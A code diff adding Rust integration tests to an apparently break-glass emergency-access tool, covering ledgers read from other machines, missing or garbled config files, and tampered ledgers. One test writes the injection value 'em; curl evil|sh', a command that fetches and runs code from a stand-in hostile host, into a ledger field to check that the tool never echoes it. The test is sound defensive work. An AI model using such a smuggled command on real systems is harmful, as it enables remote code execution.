@@ -83,6 +83,64 @@ fn the_ledger_knows_a_killed_run_and_its_end() {
     assert!(said.contains("SPENT by session") && said.contains("OVERDUE      rotate"), "{said}");
 }
 
+/// What this machine reads beside its own ledger.
+fn see(office: &Office, ledger: &std::path::Path) {
+    let config = office.path(".config/breakglass/config.json");
+    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
+    std::fs::write(config, serde_json::json!({"ledgers": [ledger]}).to_string()).unwrap();
+}
+
+#[test]
+fn another_machines_open_window_counts_and_a_ledger_that_is_missing_is_not_all_well() {
+    let Night { office, .. } = night("others-ledger");
+    let other = office.path("other");
+    let arguments = ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--hold"];
+    let mut command = office.command(&arguments);
+    command.env("BREAKGLASS_STATE", &other);
+    let mut person = Person::run(command);
+    office.quorum(&mut person, 2);
+    person.expect("left");
+    let (code, json, _) = told(office.command(&["status", "prod.age", "--json"]));
+    assert_eq!((code, &json["may_be_open"]), (Some(0), &false.into()), "this machine knows of none: {json}");
+    see(&office, &other.join("ledger.jsonl"));
+    for arguments in [&["status", "prod.age", "--json"][..], &["status", "--json"]] {
+        let (code, json, said) = told(office.command(arguments));
+        assert_eq!(code, Some(10), "{said}");
+        let target = &json["targets"][0];
+        assert_eq!((&target["state"], &target["own"]), (&"open".into(), &false.into()), "{json}");
+    }
+    person.type_raw(b"q");
+    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
+    let (code, json, _) = told(office.command(&["status", "prod.age", "--json"]));
+    assert_eq!(code, Some(1), "{json}");
+    assert!(json["upkeep"]["spent"].is_object(), "what another machine has opened is spent: {json}");
+    // And opening it here takes a reason.
+    let refused =
+        office.command(&["open", "prod.age", "--for", "5m", "--reason", "x", "--hold"]).output().unwrap();
+    assert_eq!(refused.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("are spent"));
+
+    see(&office, &office.path("gone.jsonl"));
+    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    assert!(code != Some(0) && said.contains("gone.jsonl"), "{json} {said}");
+    std::fs::write(office.path(".config/breakglass/config.json"), "garbage").unwrap();
+    let (code, _, said) = told(office.command(&["status", "prod.age"]));
+    assert!(code != Some(0) && said.contains("config.json"), "{said}");
+}
+
+#[test]
+fn a_ledger_says_nothing_that_a_shell_would_do() {
+    let Night { office, .. } = night("hostile-ledger");
+    let mut person = open(&office, "5m");
+    person.send_signal(Signal::SIGKILL);
+    person.wait();
+    let ledger = office.path("state/ledger.jsonl");
+    let text = std::fs::read_to_string(&ledger).unwrap();
+    std::fs::write(&ledger, text.replace("\"user\":\"emergency\"", "\"user\":\"em; curl evil|sh\"")).unwrap();
+    let (code, _, said) = told(office.command(&["status"]));
+    assert!(code == Some(6) && !said.contains("curl"), "{said}");
+}
+
 #[test]
 fn shares_given_in_vain_are_counted() {
     let night = night("in-vain");
